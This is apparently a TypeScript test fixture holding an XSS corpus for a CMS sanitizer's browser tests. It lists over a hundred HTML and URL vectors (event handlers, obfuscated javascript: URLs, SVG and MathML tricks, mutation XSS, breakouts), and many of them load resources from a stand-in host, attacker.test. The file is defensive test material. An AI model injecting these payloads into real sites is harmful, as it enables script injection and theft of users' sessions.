/**
 * The XSS corpus every test of CMS content draws on: HTML vectors for `html()` fields and URL
 * vectors for links, images and URL text fields. Each vector takes an id and puts it in its
 * payload, so a browser test can tell which one ran: a payload calls `__xss(id)` (or `alert(id)`
 * inside frames of another origin), or loads `${ATTACKER_ORIGIN}/{id}.js|.html|.css|.png`, which
 * the test's attacker host answers with a call to the trap.
 *
 * `live` says whether the vector runs (or reaches the attacker host) when Chromium loads it as it
 * is, unsanitized, inside a `<div>`: the e2e harness proves it can see each live one. The others
 * ran in older browsers or run after a naive filter rewrites them; the sanitizer must remove them
 * just the same.
 */

/** The host no rendered page may ever contact: vectors load their payloads from it. */
export const ATTACKER_HOST = 'attacker.test';
export const ATTACKER_ORIGIN = `https://${ATTACKER_HOST}`;

export interface XssVector {
  readonly name: string;
  readonly html: (id: number) => string;
  readonly live: boolean;
}

export interface UrlVector {
  readonly name: string;
  readonly url: (id: number) => string;
}

const trap = (id: number) => `__xss(${id})`;

/** Every character as a decimal character reference (`&#106;&#97;…`). */
const decimalRefs = (text: string, pad = 0, semicolon = true): string =>
  [...text].map((char) => `&#${String(char.codePointAt(0)).padStart(pad, '0')}${semicolon ? ';' : ''}`).join('');

/** Every character as a hexadecimal character reference (`&#x6a;&#x61;…`). */
const hexRefs = (text: string): string => [...text].map((char) => `&#x${(char.codePointAt(0) ?? 0).toString(16)};`).join('');

/** A 1×1 GIF: an image that loads, so its `onload` fires. */
const GIF = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';

type Row = readonly [name: string, live: boolean, html: (id: number) => string];

const rows: readonly Row[] = [
  // Script elements
  ['script element', true, (id) => `<script>${trap(id)}</script>`],
  ['upper-case external script', true, (id) => `<SCRIPT SRC=${ATTACKER_ORIGIN}/${id}.js></SCRIPT>`],
  ['protocol-relative script', true, (id) => `<script src=//${ATTACKER_HOST}/${id}.js></script>`],
  ['script left unclosed', false, (id) => `<script>${trap(id)}//`],
  ['script split to fool a naive filter', false, (id) => `<scr<script>ipt>${trap(id)}</scr</script>ipt>`],
  // Event handlers
  ['img onerror', true, (id) => `<img src=x onerror=${trap(id)}>`],
  ['img onerror, handler in character references', true, (id) => `<img src=x onerror="${decimalRefs('__xss')}(${id})">`],
  ['img onerror behind slashes', true, (id) => `<img/src/onerror=${trap(id)}>`],
  ['img onerror after a quoted attribute and a slash', true, (id) => `<img src="x" alt="x"/onerror=${trap(id)}>`],
  ['img onerror with a javascript: label', true, (id) => `<img src=x onerror="javascript:${trap(id)}">`],
  ['img onload of an image that loads', true, (id) => `<img src="${GIF}" onload=${trap(id)}>`],
  ['img tag left unclosed before the next tag', true, (id) => `<img src=x onerror=${trap(id)}//`],
  ['input type=image onerror', true, (id) => `<input type=image src=x onerror=${trap(id)}>`],
  ['input autofocus onfocus', true, (id) => `<input autofocus onfocus=${trap(id)}>`],
  ['body onload', true, (id) => `<body onload=${trap(id)}>`],
  ['body onpageshow', true, (id) => `<body onpageshow=${trap(id)}>`],
  ['details ontoggle', true, (id) => `<details open ontoggle=${trap(id)}><summary>x</summary></details>`],
  ['video source onerror', true, (id) => `<video><source onerror="${trap(id)}"></video>`],
  ['video onerror', true, (id) => `<video src=x onerror=${trap(id)}></video>`],
  ['audio onerror', true, (id) => `<audio src=x onerror=${trap(id)}></audio>`],
  ['div onmouseover', true, (id) => `<div onmouseover="${trap(id)}">hover me</div>`],
  ['onclick on an allowed link', true, (id) => `<a href="https://ok.example/" onclick="${trap(id)};return false">ok</a>`],
  ['button onclick', true, (id) => `<button onclick=${trap(id)}>press</button>`],
  ['onanimationstart with a style element', true, (id) => `<style>@keyframes xss${id}{from{opacity:1}to{opacity:.9}}</style><p style="animation:xss${id} 1ms" onanimationstart=${trap(id)}>x</p>`],
  ['marquee onstart', false, (id) => `<marquee onstart=${trap(id)}>x</marquee>`],
  ['frameset onload', false, (id) => `<frameset onload=${trap(id)}>`],
  // javascript:, vbscript: and data: URLs
  ['javascript: href', true, (id) => `<a href="javascript:${trap(id)}">x</a>`],
  ['javascript: href, mixed case', true, (id) => `<a href="JaVaScRiPt:${trap(id)}">x</a>`],
  ['javascript: href, decimal references', true, (id) => `<a href="${decimalRefs('javascript:')}${trap(id)}">x</a>`],
  ['javascript: href, padded references without semicolons', true, (id) => `<a href="${decimalRefs('javascript:', 7, false)}${trap(id)}">x</a>`],
  ['javascript: href, hex references', true, (id) => `<a href="&#x6A;avascript&#x3A;${trap(id)}">x</a>`],
  ['javascript: href, every character a hex reference', true, (id) => `<a href="${hexRefs(`javascript:${trap(id)}`)}">x</a>`],
  ['javascript: href, named references', true, (id) => `<a href="java&Tab;script&colon;${trap(id)}">x</a>`],
  ['javascript: href, unquoted, colon as a reference', true, (id) => `<a href=javascript&#58;${trap(id)}>x</a>`],
  ['javascript: href split by an encoded tab', true, (id) => `<a href="jav&#x09;ascript:${trap(id)}">x</a>`],
  ['javascript: href split by a newline', true, (id) => `<a href="java\nscript:${trap(id)}">x</a>`],
  ['javascript: href behind a control character', true, (id) => `<a href="\u0001javascript:${trap(id)}">x</a>`],
  ['javascript: href behind spaces', true, (id) => `<a href="  javascript:${trap(id)}">x</a>`],
  ['javascript: href, payload after a comment', true, (id) => `<a href="javascript://%0a${trap(id)}">x</a>`],
  ['javascript: href, payload percent-encoded', true, (id) => `<a href="javascript:%5f%5fxss(${id})">x</a>`],
  ['javascript: href on an image map area', true, (id) => `<img src="${GIF}" width=40 height=40 usemap=#m${id}><map name=m${id}><area shape=rect coords=0,0,40,40 href="javascript:${trap(id)}"></map>`],
  ['javascript: src, mixed case', false, (id) => `<IMG SRC=JaVaScRiPt:${trap(id)}>`],
  ['srcset with javascript:', false, (id) => `<img src="/a.jpg" srcset="javascript:${trap(id)} 1x">`],
  ['vbscript: href', false, (id) => `<a href="vbscript:msgbox(${id})">x</a>`],
  ['data: href', false, (id) => `<a href="data:text/html;base64,${btoa(`<script>alert(${id})</script>`)}">x</a>`],
  ['form action javascript:', true, (id) => `<form action="javascript:${trap(id)}"><button>Go</button></form>`],
  ['button formaction javascript:', true, (id) => `<form><button formaction="javascript:${trap(id)}">Go</button></form>`],
  ['input formaction javascript:', true, (id) => `<form><input type=submit formaction=javascript:${trap(id)} value=Go></form>`],
  ['table background', false, (id) => `<table background="javascript:${trap(id)}"><tr><td>x</td></tr></table>`],
  ['blockquote cite', false, (id) => `<blockquote cite="javascript:${trap(id)}">x</blockquote>`],
  // Frames, objects and embeds
  ['iframe javascript: src', true, (id) => `<iframe src="javascript:parent.${trap(id)}"></iframe>`],
  ['iframe srcdoc', true, (id) => `<iframe srcdoc="<script>parent.${trap(id)}</script>"></iframe>`],
  ['iframe srcdoc in references', true, (id) => `<iframe srcdoc="&lt;img src=x onerror=parent.${trap(id)}&gt;"></iframe>`],
  ['iframe data: src', true, (id) => `<iframe src="data:text/html,<script>alert(${id})</script>"></iframe>`],
  ['iframe from the attacker host', true, (id) => `<iframe src="${ATTACKER_ORIGIN}/${id}.html"></iframe>`],
  ['object data javascript:', false, (id) => `<object data="javascript:${trap(id)}"></object>`],
  ['object data data:text/html', true, (id) => `<object data="data:text/html,<script>alert(${id})</script>"></object>`],
  ['object from the attacker host', true, (id) => `<object type="text/html" data="${ATTACKER_ORIGIN}/${id}.html"></object>`],
  ['embed javascript:', false, (id) => `<embed src="javascript:${trap(id)}">`],
  ['embed svg data: URL', true, (id) => `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(${id})'/>">`],
  ['embed from the attacker host', true, (id) => `<embed type="text/html" src="${ATTACKER_ORIGIN}/${id}.html">`],
  // Page-level elements
  ['meta refresh to javascript:', false, (id) => `<meta http-equiv="refresh" content="0;url=javascript:${trap(id)}">`],
  ['meta refresh to the attacker host', true, (id) => `<meta http-equiv="refresh" content="0;url=${ATTACKER_ORIGIN}/${id}.html">`],
  ['base href hijacking relative links', true, (id) => `<base href="${ATTACKER_ORIGIN}/"><a href="${id}.html">relative</a>`],
  ['link stylesheet', true, (id) => `<link rel="stylesheet" href="${ATTACKER_ORIGIN}/${id}.css">`],
  ['style @import', true, (id) => `<style>@import '${ATTACKER_ORIGIN}/${id}.css';</style>`],
  ['style element background', true, (id) => `<style>body{background:url(${ATTACKER_ORIGIN}/${id}.png)}</style>`],
  ['style attribute loading from the attacker', true, (id) => `<p style="background:url(${ATTACKER_ORIGIN}/${id}.png)">x</p>`],
  ['style attribute with url(javascript:)', false, (id) => `<p style="background:url(javascript:${trap(id)})">x</p>`],
  ['style attribute with expression()', false, (id) => `<div style="width: expression(${trap(id)})">x</div>`],
  // SVG
  ['svg onload', true, (id) => `<svg onload=${trap(id)}>`],
  ['svg onload behind a slash', true, (id) => `<svg/onload=${trap(id)}>`],
  ['script inside svg', true, (id) => `<svg><script>${trap(id)}</script></svg>`],
  ['svg script with an external href', true, (id) => `<svg><script href="${ATTACKER_ORIGIN}/${id}.js"></script></svg>`],
  ['svg link with xlink:href', true, (id) => `<svg width=60 height=30><a xlink:href="javascript:${trap(id)}"><rect width=60 height=30 /></a></svg>`],
  ['svg link with href', true, (id) => `<svg width=60 height=30><a href="javascript:${trap(id)}"><rect width=60 height=30 /></a></svg>`],
  ['svg animate onbegin', true, (id) => `<svg><animate onbegin=${trap(id)} attributeName=x dur=1s>`],
  ['svg set turning a link into javascript:', true, (id) => `<svg width=60 height=30><a><set attributeName=href to="javascript:${trap(id)}"/><rect width=60 height=30 /></a></svg>`],
  ['svg animate turning a link into javascript:', true, (id) => `<svg width=60 height=30><a><animate attributeName=href values="javascript:${trap(id)}"/><rect width=60 height=30 /></a></svg>`],
  ['svg image onerror', true, (id) => `<svg><image href=x onerror=${trap(id)} /></svg>`],
  ['svg foreignObject with html inside', true, (id) => `<svg><foreignObject width=10 height=10><img src=x onerror=${trap(id)}></foreignObject></svg>`],
  ['svg style importing from the attacker', true, (id) => `<svg><style>@import url(${ATTACKER_ORIGIN}/${id}.css)</style></svg>`],
  ['mathml xlink:href', false, (id) => `<math><mi xlink:href="javascript:${trap(id)}">x</mi></math>`],
  ['mathml mtext holding an html link', true, (id) => `<math><mtext><a href="javascript:${trap(id)}">x</a></mtext></math>`],
  // Mutation XSS: raw-text elements, namespaces and comments parsed differently than they look
  ['noscript mutation', true, (id) => `<noscript><p title="</noscript><img src=x onerror=${trap(id)}>"></noscript>`],
  ['noembed mutation', true, (id) => `<noembed><p title="</noembed><img src=x onerror=${trap(id)}>"></noembed>`],
  ['noframes mutation', true, (id) => `<noframes><p title="</noframes><img src=x onerror=${trap(id)}>"></noframes>`],
  ['xmp mutation', true, (id) => `<xmp><p title="</xmp><img src=x onerror=${trap(id)}>"></xmp>`],
  ['textarea mutation', true, (id) => `<textarea><p title="</textarea><img src=x onerror=${trap(id)}>"></textarea>`],
  ['title mutation', true, (id) => `<title><p title="</title><img src=x onerror=${trap(id)}>"></title>`],
  ['style mutation inside svg', true, (id) => `<svg></p><style><a id="</style><img src=1 onerror=${trap(id)}>">`],
  ['mathml table mglyph style mutation', false, (id) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${trap(id)}&gt;">`],
  ['svg inside mathml, style comment mutation', false, (id) => `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=${trap(id)}>"></style></svg></mglyph></h1></mtext></math>`],
  ['form inside form mutation', false, (id) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${trap(id)}>`],
  ['template content', false, (id) => `<template><img src=x onerror=${trap(id)}></template>`],
  ['xmp raw text', false, (id) => `<xmp><script>${trap(id)}</script></xmp>`],
  ['textarea raw text', false, (id) => `<textarea><script>${trap(id)}</script></textarea>`],
  ['select option mutation', true, (id) => `<select><option><img src=x onerror=${trap(id)}></option></select>`],
  ['html comment', false, (id) => `<!--<img src=x onerror=${trap(id)}>-->`],
  ['comment closed by --!>', true, (id) => `<!-- --!><img src=x onerror=${trap(id)}> -->`],
  ['comment that is empty (<!-->)', true, (id) => `<!--><img src=x onerror=${trap(id)}>-->`],
  ['CDATA section in html', true, (id) => `<![CDATA[><img src=x onerror=${trap(id)}>]]>`],
  ['processing instruction in html', true, (id) => `<?xml ><img src=x onerror=${trap(id)}>?>`],
  // Breaking out of an attribute or an element
  ['attribute breakout with a double quote', true, (id) => `"><img src=x onerror=${trap(id)}>`],
  ["attribute breakout with a single quote", true, (id) => `'><script>${trap(id)}</script>`],
  ['closing the wrapping element', true, (id) => `</p></div></section><script>${trap(id)}</script>`],
];

/** The HTML vectors, in the order above. */
export const xssVectors: readonly XssVector[] = rows.map(([name, live, html]) => ({ name, live, html }));

/** URLs for `link()` fields, image sources and URL text fields: each must never reach an `href` or `src` that runs. */
export const xssUrls: readonly UrlVector[] = [
  { name: 'javascript:', url: (id) => `javascript:${trap(id)}` },
  { name: 'JAVASCRIPT:', url: (id) => `JAVASCRIPT:${trap(id)}` },
  { name: 'javascript: behind spaces', url: (id) => `  javascript:${trap(id)}` },
  { name: 'javascript: split by a tab', url: (id) => `java\tscript:${trap(id)}` },
  { name: 'javascript: split by a newline', url: (id) => `java\nscript:${trap(id)}` },
  { name: 'javascript: behind a control character', url: (id) => `\u0001javascript:${trap(id)}` },
  { name: 'javascript: with the payload after a comment', url: (id) => `javascript://%0a${trap(id)}` },
  { name: 'vbscript:', url: (id) => `vbscript:msgbox(${id})` },
  { name: 'data: html', url: (id) => `data:text/html,<script>alert(${id})</script>` },
  { name: 'data: svg', url: (id) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(${id})"/>` },
  { name: 'attribute breakout', url: (id) => `x" onmouseover="${trap(id)}" onerror="${trap(id)}` },
  { name: 'element breakout', url: (id) => `"><img src=x onerror=${trap(id)}>` },
];
